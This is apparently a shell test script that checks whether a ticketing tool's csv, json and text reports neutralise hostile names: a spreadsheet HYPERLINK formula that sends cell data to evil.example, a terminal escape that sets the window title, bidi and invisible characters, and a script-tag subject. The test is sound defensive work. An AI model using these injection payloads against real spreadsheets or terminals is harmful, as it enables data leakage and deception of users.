#!/bin/sh
# tests/report/hostile.sh — csv and json reports carry names and subjects that
# strangers and agents typed: printed through `| cat`, they must not send a
# single escape sequence, C1 control or bidi/invisible character to the
# terminal, and a csv cell must not be a spreadsheet formula. The numbers the
# report computed stay numbers (a negative change is not "guarded"), and json
# still decodes to exactly the text the database holds.

. "$top_srcdir/tests/lib/tap.sh"
. "$top_srcdir/tests/lib/pg.sh"

pg_start
pg_install
psql -X -q -v ON_ERROR_STOP=1 -f "$top_srcdir/tests/report/fixture.sql" >&2 ||
    bail_out "loading tests/report/fixture.sql failed"

# Hostile names, and ticket 8's subject (ESC, <script>) from the fixture.
psql -X -q -v ON_ERROR_STOP=1 >&2 <<'SQL' || bail_out "hostile names not written"
SET session_replication_role = replica;
SET search_path = guichet;
UPDATE agent SET display_name = '=HYPERLINK("http://evil.example/?"&A1,"Anne")' WHERE id = 1;
UPDATE agent SET display_name = E'\tBruno \x1b]0;pwned\x07 Lenoir' WHERE id = 2;
UPDATE queue SET name = E'@SUM(1+1)\u202eAccueil' WHERE id = 1;
UPDATE queue SET name = E'+Propret\u00e9\u00ad\u200b\ufe0f' WHERE id = 3;
UPDATE queue SET name = E'Technique \u0085\u009b2J\u2066(N2)\U000E0041' WHERE id = 2;
UPDATE contact SET name = E'-2+3 L\u00e9a \u009b31m' WHERE id = 1;
UPDATE contact SET name = E'\rMarc\u2067Petit\r\n' WHERE id = 2;
SQL

P="--org nordville --from 2025-03-01 --to 2025-03-31"
out=$PGDIR/out
mkdir "$out"

# The first character a terminal would act on or hide, with its offset; or "safe".
# Line ends are allowed (CR only before LF: csv ends its records with CR LF).
terminal_safe()
{
	perl -CS -e '
		local $/; my $s = <STDIN>;
		while ($s =~ /([\x00-\x09\x0b\x0c\x0e-\x1f\x7f-\x9f\p{Cf}\p{Default_Ignorable_Code_Point}]|\r(?!\n))/g) {
			printf "U+%04X at offset %d\n", ord($1), pos($s) - 1;
			exit;
		}
		print "safe\n";
	'
}

# The csv fields of one column, one per line (RFC 4180, CR LF records).
csv_column()
{
	perl -CS -e '
		my $col = shift; local $/; my $s = <STDIN>; my ($n, $k) = (0);
		while (length $s) {
			my @f;
			while (1) {
				if ($s =~ s/\A"((?:[^"]|"")*)"//) { (my $v = $1) =~ s/""/"/g; push @f, $v }
				elsif ($s =~ s/\A([^,"\r\n]*)//) { push @f, $1 }
				next if $s =~ s/\A,//;
				last if $s =~ s/\A\r\n//;
				die "bad field at: " . substr($s, 0, 20) . "\n";
			}
			if ($n++ == 0) { ($k) = grep { $f[$_] eq $col } 0 .. $#f; die "no column $col\n" unless defined $k; next }
			print "$f[$k]\n";
		}
	' "$1"
}

for r in "agents $P" "volume $P" "contacts $P" "backlog --org nordville --table oldest" \
    "backlog --org nordville --at 2025-03-06 --table oldest" "trend $P"; do
	name=$(echo "$r" | cut -d' ' -f1)
	case $r in *--at*) name=$name-at ;; esac
	for f in csv json text; do
		# shellcheck disable=SC2086 # the arguments are words
		guichet-report $r --format $f >"$out/$name.$f" 2>&1
		is "$?:$(terminal_safe <"$out/$name.$f")" "0:safe" \
		    "$name --format $f: no control, C1, bidi or invisible character reaches | cat"
	done
done

# Formula guard on text cells, with the text neutralised as in the text format.
is "$(csv_column agent <"$out/agents.csv")" \
"'=HYPERLINK(\"http://evil.example/?\"&A1,\"Anne\")
'        Bruno ^[]0;pwned^G Lenoir" "agents csv: a formula and a leading tab get a leading '"
is "$(csv_column queue <"$out/volume.csv")" \
"'@SUM(1+1)Accueil
'+Propreté
Technique <U+0085><U+009B>2J(N2)" "volume csv: @ and + get a leading ', C1 shown, invisibles dropped"
is "$(csv_column contact <"$out/contacts.csv")" \
"' MarcPetit 
'-2+3 Léa <U+009B>31m" "contacts csv: - and a leading CR get a leading ', line breaks become spaces"
like "$(csv_column subject <"$out/backlog.csv")" \
    '^Dépôt \^\[\[31m<script>alert\(1\)</script> \| rue \*Haute\*$' \
    "backlog csv: the ESC of a subject shown as ^["
like "$(csv_column queue <"$out/backlog-at.csv")" "^'@SUM" "backlog csv: the queue guarded too"
# Numbers the report computed are not text: a negative change stays a number.
is "$(csv_column change <"$out/trend.csv" | tr '\n' ' ')" "  -0.2500 -0.3333 -0.5000 -1.0000 " \
    "trend csv: negative changes stay numbers, unguarded"

# json: escaped, but decoding gives back exactly what the database holds.
json_values()
{
	perl -MJSON::PP -e '
		my $key = shift; local $/; my $d = JSON::PP->new->utf8->decode(<STDIN>);
		for my $r (@{$d->{tables}[0]{rows}}) {
			my $v = $r->{$key}; utf8::encode($v); print unpack("H*", $v), "\n";
		}
	' "$1" | sort
}
db_values()
{
	psql -X -At -c "SELECT encode(convert_to($1, 'UTF8'), 'hex') FROM guichet.$2" | sort
}
is "$(json_values agent <"$out/agents.json")" "$(db_values display_name "agent WHERE id IN (1, 2)")" \
    "agents json: the names decode to the database's bytes"
is "$(json_values queue <"$out/volume.json")" "$(db_values name "queue WHERE id <= 3")" \
    "volume json: the queues decode to the database's bytes"
is "$(json_values contact <"$out/contacts.json")" "$(db_values name "contact WHERE id <= 2")" \
    "contacts json: the requesters decode to the database's bytes"
like "$(cat "$out/volume.json")" '"@SUM\(1\+1\)\\u202eAccueil"' "json: a bidi override as \\u202e"
like "$(cat "$out/volume.json")" '\\u0085\\u009b2J\\u2066\(N2\)\\udb40\\udc41' \
    "json: C1 as \\u0085, a tag outside the BMP as a surrogate pair"
like "$(cat "$out/agents.json")" '"\\tBruno \\u001b\]0;pwned\\u0007 Lenoir"' \
    "json: ESC and BEL as \\u001b and \\u0007"
like "$(cat "$out/trend.json")" '"change": -0.2500' "json: a negative change is a number"

done_testing
